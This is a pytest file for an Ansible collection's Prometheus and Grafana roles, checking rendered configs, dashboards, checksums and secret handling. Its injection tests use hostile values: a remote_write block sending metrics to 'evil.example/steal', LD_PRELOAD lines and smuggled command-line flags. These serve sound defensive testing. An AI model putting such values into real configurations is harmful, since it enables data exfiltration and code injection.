# Copyright: (c) 2026, containerops.fleet contributors
# GNU General Public License v3.0+ (see LICENSES/GPL-3.0-or-later.txt or https://www.gnu.org/licenses/gpl-3.0.txt)
"""The monitoring roles without a host: specs mirror defaults, templates render to valid configuration, the shipped
dashboards are valid and agree with the provisioned datasource. promtool itself runs in tests/e2e/test_monitoring.py."""

from __future__ import annotations

import json
import re
from pathlib import Path

import jinja2
import pytest
import yaml
from ansible.parsing.dataloader import DataLoader
from ansible.plugins.filter.core import FilterModule
from ansible.template import Templar, trust_as_template

from ansible_collections.containerops.fleet.plugins.filter.file_sd_targets import file_sd_targets
from ansible_collections.containerops.fleet.plugins.filter.scrape_targets import scrape_targets

ROLES = Path(__file__).resolve().parents[3] / "roles"
MONITORING = ("prometheus", "node_exporter", "grafana")
HOSTVARS = {
    "node1": {"ansible_host": "10.0.0.1"},
    "node2": {"ansible_host": "10.0.0.2"},
    "lb1": {"ansible_host": "10.0.0.9"},
    "mon1": {"ansible_host": "10.0.0.5"},
}


def _yaml(path: Path):
    return yaml.safe_load(path.read_text())


def _render(role: str, template: str, **variables) -> str:
    env = jinja2.Environment(
        loader=jinja2.FileSystemLoader(ROLES / role / "templates"),
        trim_blocks=True,
        undefined=jinja2.StrictUndefined,
    )
    env.filters.update(FilterModule().filters())  # Ansible's own to_json, to_nice_yaml, ...
    env.filters["containerops.fleet.scrape_targets"] = scrape_targets
    return env.get_template(template).render(ansible_managed="managed", **variables)


def _prometheus_vars(**overrides) -> dict:
    variables = {k: v for k, v in _yaml(ROLES / "prometheus" / "defaults" / "main.yml").items() if "{{" not in str(v)}
    variables.update(
        inventory_hostname="mon1",
        hostvars=HOSTVARS,
        prometheus_listen_address="10.0.0.5",
        prometheus_node_exporter_hosts=["node1", "node2", "lb1", "mon1"],
        prometheus_haproxy_hosts=["lb1"],
        prometheus_engine_hosts=["node1", "node2"],
        _prometheus_url_host="10.0.0.5",
        _prometheus_rules_dir="/etc/prometheus/rules",
    )
    variables.update(overrides)
    return variables


@pytest.mark.parametrize("role", MONITORING)
def test_argument_specs_mirror_defaults(role):
    defaults = _yaml(ROLES / role / "defaults" / "main.yml")
    options = _yaml(ROLES / role / "meta" / "argument_specs.yml")["argument_specs"]["main"]["options"]
    assert set(defaults) == set(options)
    assert all(k.startswith(f"{role}_") for k in defaults)
    for name, spec in options.items():
        assert spec.get("type") and spec.get("description"), name
        if spec["type"] == "list":
            assert spec.get("elements"), name


def test_prometheus_config_derives_every_job_from_the_inventory():
    config = yaml.safe_load(_render("prometheus", "prometheus.yml.j2", **_prometheus_vars()))
    jobs = {j["job_name"]: j for j in config["scrape_configs"]}
    assert list(jobs) == ["prometheus", "node", "haproxy", "docker_engine", "fleet_services"]
    assert jobs["prometheus"]["static_configs"] == [{"targets": ["10.0.0.5:9090"], "labels": {"host": "mon1"}}]
    assert [g["targets"] for g in jobs["node"]["static_configs"]] == [
        ["10.0.0.9:9100"],
        ["10.0.0.5:9100"],
        ["10.0.0.1:9100"],
        ["10.0.0.2:9100"],
    ]
    assert jobs["haproxy"]["static_configs"] == [{"targets": ["10.0.0.9:8404"], "labels": {"host": "lb1"}}]
    assert jobs["haproxy"]["metrics_path"] == "/metrics"
    assert [g["labels"]["host"] for g in jobs["docker_engine"]["static_configs"]] == ["node1", "node2"]
    assert jobs["docker_engine"]["static_configs"][0]["targets"] == ["10.0.0.1:9323"]
    assert jobs["fleet_services"]["file_sd_configs"] == [{"files": ["/etc/prometheus/file_sd/fleet/*.json"]}]
    assert config["rule_files"] == ["/etc/prometheus/rules/*.yml"]
    assert config["global"] == {"scrape_interval": "15s", "evaluation_interval": "15s"}
    assert "alerting" not in config


def test_prometheus_config_extras():
    extra = {"job_name": "blackbox", "static_configs": [{"targets": ["10.0.0.7:9115"]}]}
    config = yaml.safe_load(
        _render(
            "prometheus",
            "prometheus.yml.j2",
            **_prometheus_vars(
                prometheus_scrape_configs_extra=[extra],
                prometheus_alertmanagers=["10.0.0.8:9093"],
                prometheus_external_labels={"site": "lab"},
                prometheus_haproxy_hosts=[],
            ),
        )
    )
    assert config["scrape_configs"][-1] == extra
    assert config["alerting"]["alertmanagers"][0]["static_configs"] == [{"targets": ["10.0.0.8:9093"]}]
    assert config["global"]["external_labels"] == {"site": "lab"}
    haproxy = next(j for j in config["scrape_configs"] if j["job_name"] == "haproxy")
    assert haproxy["static_configs"] == []


def test_rules_ship_the_four_alerts_with_configured_thresholds():
    rendered = _render(
        "prometheus",
        "fleet-rules.yml.j2",
        **_prometheus_vars(prometheus_alert_instance_down_for="30s", prometheus_alert_5xx_ratio=0.1),
    )
    groups = yaml.safe_load(rendered)["groups"]
    assert [g["name"] for g in groups] == ["fleet"]
    rules = {r["alert"]: r for r in groups[0]["rules"]}
    assert set(rules) == {"FleetInstanceDown", "FleetHAProxyBackendServerDown", "FleetHigh5xxRate", "FleetHighLatency"}
    assert rules["FleetInstanceDown"]["for"] == "30s"
    assert rules["FleetHigh5xxRate"]["expr"].endswith("> 0.1")
    assert rules["FleetHighLatency"]["expr"] == "haproxy_backend_response_time_average_seconds > 0.5"
    assert rules["FleetInstanceDown"]["annotations"]["summary"] == (
        "{{ $labels.job }} target {{ $labels.instance }} on {{ $labels.host }} is down"
    )
    assert all(r["labels"]["severity"] in ("critical", "warning") for r in rules.values())


def test_rules_disabled_and_extra():
    extra = [{"alert": "Mine", "expr": "up == 2", "for": "1m"}]
    only_extra = yaml.safe_load(
        _render(
            "prometheus",
            "fleet-rules.yml.j2",
            **_prometheus_vars(prometheus_alert_rules_enabled=False, prometheus_alert_rules_extra=extra),
        )
    )
    assert only_extra == {"groups": [{"name": "fleet_extra", "rules": extra}]}
    none = yaml.safe_load(
        _render("prometheus", "fleet-rules.yml.j2", **_prometheus_vars(prometheus_alert_rules_enabled=False))
    )
    assert none == {"groups": []}


def test_tarball_is_verified_before_it_is_unpacked():
    tasks = _yaml(ROLES / "prometheus" / "tasks" / "install_tarball.yml")
    names = [t["name"] for t in tasks]
    download = next(t for t in tasks if "ansible.builtin.get_url" in t)["ansible.builtin.get_url"]
    assert download["checksum"] == "sha256:{{ prometheus_tarball_sha256 | lower }}"
    check = names.index("Refuse a local tarball that is missing or does not match its sha256")
    assert names.index("Checksum the local tarball on the controller") < check
    assert check < names.index("Copy the local tarball to the host") < names.index("Unpack the tarball")
    preflight = _yaml(ROLES / "prometheus" / "tasks" / "preflight.yml")
    tarball_check = next(t for t in preflight if t["name"] == "Check the tarball source and checksum")
    assert "prometheus_tarball_sha256 is match('^[0-9a-fA-F]{64}$')" in tarball_check["ansible.builtin.assert"]["that"]


def test_config_and_rules_are_checked_by_promtool_and_reload():
    tasks = {t["name"]: t for t in _yaml(ROLES / "prometheus" / "tasks" / "configure.yml")}
    rules = tasks["Install the alert rules (checked by promtool)"]
    config = tasks["Install the configuration (checked by promtool)"]
    assert rules["ansible.builtin.template"]["validate"] == "{{ _prometheus_promtool }} check rules %s"
    assert config["ansible.builtin.template"]["validate"] == "{{ _prometheus_promtool }} check config %s"
    assert rules["notify"] == config["notify"] == "Reload Prometheus"
    handlers = {h["name"]: h for h in _yaml(ROLES / "prometheus" / "handlers" / "main.yml")}
    assert handlers["Reload Prometheus"]["ansible.builtin.systemd_service"]["state"] == "reloaded"


def _dashboards():
    return {
        p.stem: json.loads(p.read_text()) for p in sorted((ROLES / "grafana" / "files" / "dashboards").glob("*.json"))
    }


def test_dashboards_are_the_shipped_set_and_use_the_provisioned_datasource():
    grafana_vars = _yaml(ROLES / "grafana" / "vars" / "main.yml")
    uid = grafana_vars["_grafana_datasource_uid"]
    provisioned = grafana_vars["_grafana_datasources"]["datasources"]
    assert [d["uid"] for d in provisioned] == ["{{ _grafana_datasource_uid }}"]
    dashboards = _dashboards()
    assert sorted(dashboards) == sorted(grafana_vars["_grafana_dashboards"])
    assert len({d["uid"] for d in dashboards.values()}) == len(dashboards)
    for name, dashboard in dashboards.items():
        assert dashboard["panels"], name
        ids = [p["id"] for p in dashboard["panels"]]
        assert len(ids) == len(set(ids)), name
        for panel in dashboard["panels"]:
            assert panel["datasource"] == {"type": "prometheus", "uid": uid}, (name, panel["title"])
            assert panel["targets"], (name, panel["title"])
            for target in panel["targets"]:
                assert target["datasource"]["uid"] == uid
                assert target["expr"].count("(") == target["expr"].count(")"), target["expr"]


def test_service_overview_covers_the_issue():
    titles = [p["title"] for p in _dashboards()["fleet-service-overview"]["panels"]]
    assert titles[:4] == [
        "Requests/s per replica",
        "5xx responses/s per service",
        "Latency p95 per service",
        "Replicas up per service",
    ]


_SELECTOR = re.compile(r"([A-Za-z_:][A-Za-z0-9_:]*)\{([^}]*)\}")


def _selectors(expr: str) -> list[tuple[str, dict[str, str]]]:
    """The metric{label="value",...} selectors of a PromQL expression, in order (matchers other than = kept as text)."""
    return [
        (metric, dict(m.split("=", 1) for m in filter(None, (x.strip() for x in labels.split(",")))))
        for metric, labels in _SELECTOR.findall(expr)
    ]


def test_5xx_panel_counts_what_haproxy_answered_with_5xx_and_nothing_else():
    panel = next(p for p in _dashboards()["fleet-service-overview"]["panels"] if p["title"].startswith("5xx"))
    [target] = panel["targets"]
    expr = target["expr"]
    # One selector only: HAProxy's per-backend responses of class 5xx (what FleetHigh5xxRate alerts on), so the
    # panel cannot show data that comes from another series, e.g. an `or <all requests> * 0` fallback.
    assert _selectors(expr) == [("haproxy_backend_http_responses_total", {"job": '"haproxy"', "code": '"5xx"'})], expr
    assert not re.search(r"\b(or|unless|vector)\b|\*\s*0\b", expr), expr
    assert expr.startswith("sum by (proxy) (rate(") and target["legendFormat"] == "{{proxy}}", expr


def test_secret_bearing_files_are_0640_root_grafana_and_not_logged():
    tasks = {t["name"]: t for t in _yaml(ROLES / "grafana" / "tasks" / "main.yml")}
    ini = tasks["Write the server configuration (holds the admin password)"]
    assert ini["no_log"] is True
    assert (ini["ansible.builtin.template"]["group"], ini["ansible.builtin.template"]["mode"]) == ("grafana", "0640")
    datasource = tasks["Provision the Prometheus datasource"]["ansible.builtin.copy"]
    assert (datasource["group"], datasource["mode"]) == ("grafana", "0640")
    handlers = _yaml(ROLES / "grafana" / "handlers" / "main.yml")
    api = [h for h in handlers if "ansible.builtin.uri" in h]
    assert {h["ansible.builtin.uri"]["url"].rsplit("/provisioning/", 1)[1] for h in api} == {
        "datasources/reload",
        "dashboards/reload",
    }
    assert all(h["no_log"] is True and h["ansible.builtin.uri"]["method"] == "POST" for h in api)
    spec = _yaml(ROLES / "grafana" / "meta" / "argument_specs.yml")["argument_specs"]["main"]["options"]
    assert spec["grafana_admin_password"]["no_log"] is True


# --------------------------------------------------------------------------- hostile values cannot add configuration

_EVIL = "\nremote_write:\n  - url: http://evil.example/steal\n"
_TOP_LEVEL = {"global", "rule_files", "alerting", "scrape_configs"}


def _job(config, name):
    return next(j for j in config["scrape_configs"] if j["job_name"] == name)


@pytest.mark.parametrize(
    ("over", "where"),
    [
        ({"prometheus_scrape_interval": "15s" + _EVIL}, lambda c: c["global"]["scrape_interval"]),
        ({"prometheus_evaluation_interval": "15s" + _EVIL}, lambda c: c["global"]["evaluation_interval"]),
        ({"prometheus_haproxy_metrics_path": "/metrics" + _EVIL}, lambda c: _job(c, "haproxy")["metrics_path"]),
        (
            {"prometheus_file_sd_dir": '/etc/x"]' + _EVIL + "#"},
            lambda c: _job(c, "fleet_services")["file_sd_configs"][0]["files"][0],
        ),
        (
            {"inventory_hostname": 'mon1"}}]' + _EVIL + "#"},
            lambda c: _job(c, "prometheus")["static_configs"][0]["labels"]["host"],
        ),
        ({"prometheus_external_labels": {"site": "lab" + _EVIL}}, lambda c: c["global"]["external_labels"]["site"]),
        ({"prometheus_external_labels": {"site" + _EVIL: "lab"}}, lambda c: next(iter(c["global"]["external_labels"]))),
        (
            {"prometheus_scrape_configs_extra": [{"job_name": "extra" + _EVIL}]},
            lambda c: c["scrape_configs"][-1]["job_name"],
        ),
        (
            {"prometheus_alertmanagers": ["10.0.0.8:9093" + _EVIL]},
            lambda c: c["alerting"]["alertmanagers"][0]["static_configs"][0]["targets"][0],
        ),
    ],
    ids=[
        "scrape_interval",
        "evaluation_interval",
        "haproxy_metrics_path",
        "file_sd_dir",
        "inventory_hostname",
        "external_label_value",
        "external_label_name",
        "extra_job_name",
        "alertmanager",
    ],
)
def test_a_newline_in_a_value_cannot_add_a_key_to_prometheus_yml(over, where):
    config = yaml.safe_load(_render("prometheus", "prometheus.yml.j2", **_prometheus_vars(**over)))
    assert set(config) <= _TOP_LEVEL
    assert "remote_write" not in config
    assert [j["job_name"] for j in config["scrape_configs"]][:5] == [
        "prometheus",
        "node",
        "haproxy",
        "docker_engine",
        "fleet_services",
    ]
    assert _EVIL in where(config)  # the value went in whole, as one string


def test_a_hostile_host_name_from_the_inventory_stays_a_label():
    hostvars = {**HOSTVARS, 'node1"' + _EVIL: {"ansible_host": "10.0.0.1"}}
    variables = _prometheus_vars(hostvars=hostvars, prometheus_node_exporter_hosts=list(hostvars))
    config = yaml.safe_load(_render("prometheus", "prometheus.yml.j2", **variables))
    assert set(config) <= _TOP_LEVEL
    assert 'node1"' + _EVIL in [g["labels"]["host"] for g in _job(config, "node")["static_configs"]]


@pytest.mark.parametrize(
    "variable",
    [
        "prometheus_alert_instance_down_for",
        "prometheus_alert_backend_down_for",
        "prometheus_alert_5xx_for",
        "prometheus_alert_latency_for",
        "prometheus_alert_5xx_ratio",
        "prometheus_alert_latency_seconds",
    ],
)
def test_a_newline_in_a_threshold_cannot_add_a_rule(variable):
    hostile = "5m\n      - alert: Evil\n        expr: vector(1)\n  - name: evil\n    rules: []\nevil: 1"
    groups = yaml.safe_load(_render("prometheus", "fleet-rules.yml.j2", **_prometheus_vars(**{variable: hostile})))
    assert list(groups) == ["groups"]
    assert [g["name"] for g in groups["groups"]] == ["fleet"]
    rules = groups["groups"][0]["rules"]
    assert [r["alert"] for r in rules] == [
        "FleetInstanceDown",
        "FleetHAProxyBackendServerDown",
        "FleetHigh5xxRate",
        "FleetHighLatency",
    ]
    assert any(hostile in r.get("for", "") or hostile in r["expr"] for r in rules)


def test_extra_rules_with_newlines_stay_data():
    extra = [{"alert": "Mine\n  - name: evil", "expr": "up == 2\n    rules: []", "for": "1m"}]
    groups = yaml.safe_load(
        _render("prometheus", "fleet-rules.yml.j2", **_prometheus_vars(prometheus_alert_rules_extra=extra))
    )["groups"]
    assert [g["name"] for g in groups] == ["fleet", "fleet_extra"]
    assert groups[1]["rules"] == extra


# --------------------------------------------------------------------------- the role refuses them first


def _trusted(value):
    """What Ansible does to the role's own YAML: its strings may be templates."""
    if isinstance(value, str):
        return trust_as_template(value)
    if isinstance(value, dict):
        return {k: _trusted(v) for k, v in value.items()}
    if isinstance(value, list):
        return [_trusted(v) for v in value]
    return value


def _assert_failures(tasks: list, variables: dict) -> list[str]:
    """The rendered fail_msg of every assert in `tasks` that fails with `variables` (loops expanded)."""
    failures = []
    for task in tasks:
        spec = task.get("ansible.builtin.assert")
        if spec is None:
            continue
        items = Templar(loader=DataLoader(), variables=variables).template(_trusted(task.get("loop", [None])))
        for item in items:
            templar = Templar(loader=DataLoader(), variables={**variables, "item": item})
            when = task.get("when") or []
            when = when if isinstance(when, list) else [when]
            if not all(templar.evaluate_conditional(trust_as_template(c)) for c in when):
                continue
            that = spec["that"] if isinstance(spec["that"], list) else [spec["that"]]
            if not all(templar.evaluate_conditional(trust_as_template(c)) for c in that):
                failures.append(str(templar.template(trust_as_template(spec["fail_msg"]))))
    return failures


def _prometheus_preflight(**over) -> list[str]:
    variables = _prometheus_vars(prometheus_endpoints=None, **over)
    variables.update(_trusted(_yaml(ROLES / "prometheus" / "vars" / "main.yml")))
    return _assert_failures(_yaml(ROLES / "prometheus" / "tasks" / "preflight.yml"), variables)


def test_prometheus_preflight_accepts_the_defaults():
    assert _prometheus_preflight() == []
    assert (
        _prometheus_preflight(
            prometheus_external_labels={"site": "lab-1", "env": "prod"},
            prometheus_extra_args=["--web.enable-lifecycle", "--query.timeout=30s"],
            prometheus_alert_5xx_ratio="0.1",
            prometheus_alert_latency_seconds=1,
            prometheus_listen_address="::1",
            prometheus_retention_size="10GB",
        )
        == []
    )


@pytest.mark.parametrize(
    ("variable", "value"),
    [
        ("prometheus_scrape_interval", "15s" + _EVIL),
        ("prometheus_evaluation_interval", "15s\n"),
        ("prometheus_alert_instance_down_for", "2m\n"),
        ("prometheus_alert_backend_down_for", "1m; x"),
        ("prometheus_alert_5xx_for", "5m" + _EVIL),
        ("prometheus_alert_latency_for", "soon"),
        ("prometheus_alert_5xx_ratio", "0.05\n"),
        ("prometheus_alert_5xx_ratio", "0.05 or vector(1)"),
        ("prometheus_alert_latency_seconds", "0.5" + _EVIL),
        ("prometheus_haproxy_metrics_path", "/metrics" + _EVIL),
        ("prometheus_haproxy_metrics_path", "metrics"),
        ("prometheus_file_sd_dir", "/etc/prometheus/file_sd/fleet\n"),
        ("prometheus_file_sd_dir", "/etc/prom etheus"),
        ("prometheus_storage_path", "/var/lib/prometheus\nLD_PRELOAD=/tmp/x.so"),
        ("prometheus_listen_address", "10.0.0.5\nLD_PRELOAD=/tmp/x.so"),
        ("prometheus_listen_address", '10.0.0.5" --web.enable-admin-api "'),
        ("prometheus_extra_args", ["--web.enable-lifecycle\nLD_PRELOAD=/tmp/x.so"]),
        ("prometheus_extra_args", ['--x="y"']),
        ("prometheus_external_labels", {"site": "lab" + _EVIL}),
        ("prometheus_external_labels", {"si te": "lab"}),
        ("prometheus_retention_time", "15d\n"),
        ("prometheus_retention_size", "10GB\n"),
    ],
)
def test_prometheus_preflight_refuses_values_naming_them(variable, value):
    failures = _prometheus_preflight(**{variable: value})
    assert any(f.startswith(f"{variable}: ") for f in failures), failures


def test_file_sd_refuses_a_service_name_that_cannot_name_a_file():
    endpoints = [{"service": "web\n", "host": "node1", "address": "10.0.0.1", "port": 8080, "metrics_path": "/m"}]
    keys = list(file_sd_targets(endpoints))  # the filter lets a trailing newline through (`$`, not `\Z`)
    tasks = _yaml(ROLES / "prometheus" / "tasks" / "file_sd.yml")
    checks = [t for t in tasks if "ansible.builtin.assert" in t]
    assert checks, "file_sd.yml checks the service names before it writes a file"
    names = [t["name"] for t in tasks]
    assert names.index(checks[0]["name"]) < names.index("Write one target file per service")
    assert checks[0]["loop"] == "{{ prometheus_endpoints | containerops.fleet.file_sd_targets | list }}"
    check = {**checks[0], "loop": keys}
    variables = {"prometheus_endpoints": endpoints, **_trusted(_yaml(ROLES / "prometheus" / "vars" / "main.yml"))}
    failures = _assert_failures([check], variables)
    assert failures and failures[0].startswith("prometheus_endpoints: ")
    assert _assert_failures([{**check, "loop": ["web", "api.v2", "a_b-1"]}], variables) == []
